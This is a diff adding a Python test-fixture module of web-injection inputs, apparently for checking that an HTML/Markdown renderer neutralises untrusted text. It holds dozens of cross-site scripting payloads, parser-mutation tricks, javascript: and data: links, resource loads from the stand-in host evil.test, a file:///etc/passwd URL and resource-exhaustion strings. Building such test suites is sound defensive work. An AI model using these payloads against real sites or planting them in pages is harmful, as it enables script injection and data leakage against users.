@@ -1,0 +1,91 @@
+"""Texts that would run, ask for something or break a page where they are not treated as text.
+
+A script that ran would call `hit()`; whatever were fetched would be asked of `evil.test`.
+"""
+
+from typing import Final
+
+_PLAIN: Final = {
+    "script": "<script>hit()</script>",
+    "script in capitals": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    "script that is never closed": "<script>hit()",
+    "end of a script": "</script><script>hit()</script>",
+    "end of a title": "</title><script>hit()</script>",
+    "end of a textarea": "</textarea><img src=x onerror=hit()>",
+    "image": "<img src=x onerror=hit()>",
+    "image without quotes": "<img/src='//evil.test/x'/onerror=hit()>",
+    "svg": "<svg onload=hit()>",
+    "svg script": "<svg><script>hit()</script></svg>",
+    "svg animation": '<svg><a><animate attributeName=href values="javascript:hit()" /><text>x</text></a></svg>',
+    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=hit() />#x'/></svg>",
+    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
+    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
+    "template": "<template><img src=x onerror=hit()></template>",
+    "foreign style": '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
+    "comment": "<!--><img src=x onerror=hit()>-->",
+    "conditional comment": "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
+    "cdata": "<![CDATA[<img src=x onerror=hit()>]]>",
+    "frame": "<iframe srcdoc='<script>parent.hit()</script>'></iframe><iframe src=javascript:hit()></iframe>",
+    "object": "<object data=//evil.test/x></object><embed src=//evil.test/x>",
+    "base": "<base href=//evil.test/>",
+    "meta": '<meta http-equiv=refresh content="0;url=//evil.test/">',
+    "style": "<style>@import '//evil.test/x.css'; body{background:url(//evil.test/y)}</style>",
+    "style attribute": '<p style="background:url(//evil.test/z)" onmouseover=hit()>x</p>',
+    "link element": "<link rel=stylesheet href=//evil.test/x.css><link rel=prefetch href=//evil.test/y>",
+    "form": "<form action=//evil.test/><button autofocus onfocus=hit()>go</button></form>",
+    "details": "<details open ontoggle=hit()>x</details>",
+    "video": "<video src=//evil.test/x onerror=hit() autoplay></video><audio src=x onerror=hit()>",
+    "input": "<input autofocus onfocus=hit()><select autofocus onfocus=hit()>",
+    "body": "<body onload=hit()><marquee onstart=hit()>",
+    "attribute": '" onmouseover="hit()" autofocus onfocus="hit()',
+    "attribute with apostrophes": "' onfocus='hit()' autofocus='",
+    "template language": "{{ 7 * 7 }} {% raw %} ${hit()} {{constructor.constructor('hit()')()}}",
+    "zero byte": "<scr\0ipt>hit()</scr\0ipt>",
+    "right to left": "\u202e<script>hit()</script>\u202c \u2067x",
+    "surrogates as entities": "&#xD800;&#x0;&lt;script&gt;hit()&lt;/script&gt;",
+    "clobbering": "<a id=body><img name=getElementById><form name=querySelector>",
+    "broken nesting": "<table><tr><td><p><b><i></table></b><svg><p></i>" * 50,
+    "deep": "<div>" * 5_000,
+}
+_MARKDOWN: Final = {
+    "script link": "[x](javascript:hit())",
+    "script link with a tab": "[x](java&#9;script:hit())",
+    "script link as entities": "[x](&#106;avascript&colon;hit())",
+    "script link in angle brackets": "[x](<javascript:hit()>)",
+    "script autolink": "<javascript:hit()>",
+    "script reference": "[x][y]\n\n[y]: javascript:hit()",
+    "data link": "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
+    "vbscript link": "[x](vbscript:hit())",
+    "script image": "![x](javascript:hit())",
+    "web image": "![x](https://evil.test/pixel.png)",
+    "image with an attribute": '![x" onerror="hit()](https://evil.test/x.png "t\\" onerror=\\"hit()")',
+    "link with an attribute": '[x](https://evil.test/"onmouseover="hit() "title\\" onclick=\\"hit()")',
+    "image in a link in an image": "[![![a](https://evil.test/a)](https://evil.test/b)](javascript:hit())",
+    "language of code": '```"><script>hit()</script>\ncode\n```',
+    "script in code": "`<script>hit()</script>`\n\n    <script>hit()</script>",
+    "html block": "<div>\n\n[x](javascript:hit())\n\n<script>\nhit()\n</script>\n</div>",
+    "heading": "# <img src=x onerror=hit()> {#body}\n\n# __proto__\n\n# constructor",
+    "table": "|<script>hit()</script>|[x](javascript:hit())|\n|---|---|\n|<img src=x onerror=hit()>|`|`|",
+    "deep quotes": ">" * 500 + " x",
+    "deep lists": "".join("  " * depth + "- x\n" for depth in range(200)),
+    "long line": "x" * 1_000_000,
+}
+TEXTS: Final = _PLAIN | _MARKDOWN
+SHORT_TEXTS: Final = {name: text for name, text in _PLAIN.items() if len(text) < 500}
+"""For titles, tags and such."""
+
+URLS: Final = (
+    "javascript:hit()",
+    "JavaScript:hit()//https://a.org",
+    "data:text/html,<script>hit()</script>",
+    "vbscript:hit()",
+    'https://evil.test/"onmouseover="hit()',
+    "https://evil.test/'><script>hit()</script>",
+    "//evil.test/x",
+    "https://[::1",
+    "file:///etc/passwd",
+    "geo:1,2",
+    "\u202ehttps://evil.test/moc.elpmaxe",
+    "",
+)
